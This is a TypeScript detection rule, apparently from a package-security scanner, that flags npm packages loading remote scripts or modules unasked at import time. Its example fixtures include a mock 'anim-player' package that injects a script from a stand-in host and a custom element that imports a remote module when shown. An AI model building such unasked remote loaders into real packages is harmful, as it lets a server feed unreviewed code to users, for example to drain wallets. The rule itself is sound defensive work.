import { functionAround, writtenTo } from '../src/define/variables.js';
import { waysTo } from '../src/define/ways.js';
import { defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, FileContext } from '../src/types.js';
import { hostOf, isPublicCdn } from '../src/vocabulary/services.js';

export default defineRule({
  meta: {
    summary: 'Loads code from somebody’s server as soon as it is loaded itself',
    why: 'What a server hands out was never published, reviewed or locked, and can be another thing for each visitor: so a player of animations came to empty wallets (2024). Clients of a service load its script from that service, by whose name they go; copies of published packages come from the places that everybody uses; and a loader loads what it is told to, when it is told to.',
    behaviour: 'execution',
    messages: {
      script: 'Puts a script from {host} into its page, unasked',
      module: 'Imports a module from {host}, unasked',
    },
    bits: { script: 9, module: 10 },
  },
  examples: {
    flags: [
      {
        title: 'a player has a page load a script',
        files: {
          'package.json': '{"name":"anim-player","version":"1.0.0","main":"index.js"}',
          'index.js': `const s = document.createElement('script');\ns.src = 'https://castle.invalid/w.js';\ndocument.head.appendChild(s);\nmodule.exports = {};`,
        },
      },
      {
        title: 'an element imports a module when it is shown',
        files: {
          'package.json': '{"name":"anim-player","version":"1.0.0","main":"index.js"}',
          'index.js': `export class Player extends HTMLElement {\n  connectedCallback() {\n    import('https://castle.invalid/connect.js').then(({ open }) => open({ to: 'x' }));\n  }\n}\ncustomElements.define('anim-player', Player);`,
        },
      },
    ],
    passes: [
      {
        title: 'a package of a service loads its script',
        files: {
          'package.json':
            '{"name":"@castle/loader","version":"1.0.0","main":"index.js","homepage":"https://castle.invalid"}',
          'index.js': `const s = document.createElement('script');\ns.src = 'https://js.castle.invalid/v3.js';\ndocument.head.appendChild(s);`,
        },
      },
      {
        title: 'a published package comes from where everybody has it from',
        files: {
          'package.json': '{"name":"anim-player","version":"1.0.0","main":"index.js"}',
          'index.js': `import('https://cdn.jsdelivr.net/npm/lottie-web@5.12.2/+esm').then(({ default: lottie }) => lottie.loadAnimation({}));`,
        },
      },
      {
        title: 'it is loaded when the caller asks for a map',
        files: {
          'package.json': '{"name":"anim-map","version":"1.0.0","main":"index.js"}',
          'index.js': `exports.map = () => new Promise(done => {\n  const s = document.createElement('script');\n  s.src = 'https://maps.invalid/api.js';\n  s.onload = done;\n  document.head.appendChild(s);\n});`,
        },
      },
      {
        title: 'the picture of a page is somebody’s, and a script is its own',
        files: {
          'package.json': '{"name":"anim-player","version":"1.0.0","main":"index.js"}',
          'index.js': `const s = document.createElement('script'), i = document.createElement('img');\ns.src = '/anim.js';\ni.src = 'https://pictures.invalid/a.png';\ndocument.body.append(s, i);`,
        },
      },
    ],
  },
  file(context) {
    if (context.moment !== 'import' || !/https?:|['"`]\/\//.test(context.file.text)) return;
    for (const { node, source, messageId } of [...scripts(context), ...modules(context)]) {
      const address = context.textsOf(source).find(text => /^(?:https?:)?\/\/[\w-]{1,60}\./i.test(text));
      const host = address && hostOf(address);
      if (!host || isPublicCdn(host) || context.isOwnAddress(address) || isNamed(context, host)) continue;
      if (!waysTo(context, node).isUnasked && !isShown(context, node)) continue;
      context.report({
        messageId,
        data: { host },
        chain: [step('sink', `loads code from ${host}`, context.file, node)],
      });
      return;
    }
  },
});

interface Loading {
  readonly node: AnyNode;
  readonly source: AnyNode;
  readonly messageId: 'script' | 'module';
}

/** Addresses of script elements. */
function scripts(context: FileContext): readonly Loading[] {
  const made = context.named(/(?:^|\.)createElement(?:NS)?$/).filter(({ args }) => {
    const [name] = args.slice(-1);
    return name !== undefined && context.textsOf(name).some(text => /^script$/i.test(text));
  });
  if (made.length === 0) return [];
  return context.nodes('AssignmentExpression').flatMap((node): readonly Loading[] => {
    const { left, right } = node;
    if (left.type !== 'MemberExpression' || left.property.type !== 'Identifier' || left.property.name !== 'src')
      return [];
    const holder = left.object as AnyNode;
    const isIt = [holder, ...(holder.type === 'Identifier' ? writtenTo(context, holder) : [])].some(value =>
      made.some(call => call.node === value),
    );
    return isIt ? [{ node, source: right, messageId: 'script' }] : [];
  });
}

/** Modules, and scripts of workers. */
function modules(context: FileContext): readonly Loading[] {
  const declared = context.nodes('ImportDeclaration') as unknown as (AnyNode & { readonly source: AnyNode })[];
  return [
    ...declared.map(node => ({ node, source: node.source, messageId: 'module' as const })),
    ...context
      .named(/^(?:import|importScripts)$/)
      .flatMap(({ node, args: [source] }) => (source ? [{ node, source, messageId: 'module' as const }] : [])),
  ];
}

/** Whether it happens when an element of the package's own is put into a page. */
function isShown({ file, parentOf }: FileContext, node: AnyNode): boolean {
  const fn = functionAround({ parentOf }, node);
  const method = fn && parentOf(fn);
  return (
    method?.type === 'MethodDefinition' && spelling(file, method.key as unknown as AnyNode) === 'connectedCallback'
  );
}

/** Whether the package says whose script it is: `castle` of `js.castle.invalid`. */
function isNamed({ isSaid }: FileContext, host: string): boolean {
  return host
    .split('.')
    .slice(0, -1)
    .some(word => word.length >= 4 && isSaid(word));
}
